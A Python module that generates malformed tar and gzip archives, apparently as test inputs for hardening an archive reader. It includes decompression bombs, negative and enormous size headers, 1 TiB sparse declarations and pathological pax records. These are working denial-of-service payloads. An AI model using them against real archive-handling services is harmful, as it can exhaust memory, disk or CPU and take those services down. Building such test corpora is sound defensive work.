"""Write small tar archives that would take gigabytes or minutes, if a reader trusted them."""

import gzip
import io
import struct
import tarfile

SIZE = 20_000_000  # bytes, of archives that are long
END = bytes(1024)


def header(name='a.jpg', size=0, kind=tarfile.REGTYPE):
  """Return the block of a member, with any size."""
  info = tarfile.TarInfo(name)
  info.type = kind
  block = bytearray(info.tobuf(tarfile.GNU_FORMAT))
  # Base 256 holds what octal digits cannot.
  if 0 <= size < 8**11:
    block[124:136] = b'%011o\0' % size
  else:
    block[124:136] = (b'\x80\0\0\0' if size >= 0 else b'\xff' * 4) + struct.pack('>q', size)
  return _sum(block)


def _sum(block):
  block[148:156] = b' ' * 8
  block[148:156] = b'%06o\0 ' % sum(block)
  return bytes(block)


def pad(content):
  """Fill the last block."""
  return content + bytes(-len(content) % 512)


def extended(records, kind=tarfile.XHDTYPE):
  """Return an extended header, the members' records in it."""
  return header('pax', len(records), kind) + pad(records)


def record(key, value):
  """Return a line of an extended header."""
  length = len(key) + len(value) + 3
  length += len(str(length + len(str(length))))
  return b'%d %s=%s\n' % (length, key, value)


def sparse():
  """Declare a sparse file of 1 TiB, in GNU's older format."""
  block = bytearray(header('hole.jpg', 0, tarfile.GNUTYPE_SPARSE))
  block[483:495] = b'\x80' + bytes(3) + struct.pack('>Q', 2**40)
  return _sum(block) + END


def sparse_records():
  """Declare a sparse file of 1 TiB in an extended header."""
  records = record(b'GNU.sparse.size', b'%d' % 2**40) + record(b'GNU.sparse.numblocks', b'0')
  return extended(records) + header('hole.jpg') + END


def negative_size():
  """Lead back to the beginning of the archive, for ever."""
  return header('back.jpg', -512) + END


def negative_record():
  """Do the same by an extended header."""
  return extended(record(b'size', b'-1024')) + header('back.jpg') + END


def enormous_size():
  """Declare a file of 8 EiB."""
  return header('large.jpg', 2**63 - 1) + END


def enormous_record():
  """Declare it in an extended header."""
  return extended(record(b'size', b'9' * 18)) + header('large.jpg') + END


def long_name():
  """Declare a name of 8 GiB."""
  return header('././@LongLink', 8**11 - 1, tarfile.GNUTYPE_LONGNAME) + END


def packed_zeros():
  """Pack a file of 8 GiB of zeros into one of 8 MB."""
  size = 2**33
  file = io.BytesIO()
  file.write(gzip.compress(header('zeros.jpg', size)))
  piece = gzip.compress(bytes(2**26), 9)
  for _ in range(size // 2**26):
    file.write(piece)
  file.write(gzip.compress(END))
  return file.getvalue()


def packed_members(size=1_000_000):
  """Pack empty files into a 228th of their headers."""
  piece = gzip.compress(header() * 8000, 9)
  return piece * (size // len(piece)) + gzip.compress(END)


def damaged_record():
  """Have an extended header whose length is no number."""
  return extended(b'x path=a\n') + header() + END


def digits():
  """Have extended headers of digits alone, which take a regular expression long."""
  one = extended(b'1' * 60_000)
  return one * 300 + header() + END


def many_headers():
  """Have 1,500 extended headers for one file."""
  return extended(record(b'path', b'a.jpg')) * 1500 + header() + END


def global_records():
  """Have 390,000 records for each of 20,000 files."""
  one = extended(b''.join(record(b'%05d' % i, b'') for i in range(6500)), tarfile.XGLTYPE)
  return (
    one * 100
    + b''.join(
      extended(b''.join(record(b'%d.%04d' % (n, i), b'') for i in range(4000)), tarfile.XGLTYPE)
      for n in range(100)
    )
    + header() * 20_000
    + END
  )


def many_members():
  """Have 39,000 empty files."""
  return header() * (SIZE // 512 - 2) + END


ATTACKS = [
  sparse,
  sparse_records,
  negative_size,
  negative_record,
  enormous_size,
  enormous_record,
  long_name,
  packed_zeros,
  packed_members,
  damaged_record,
  digits,
  many_headers,
  global_records,
  many_members,
]
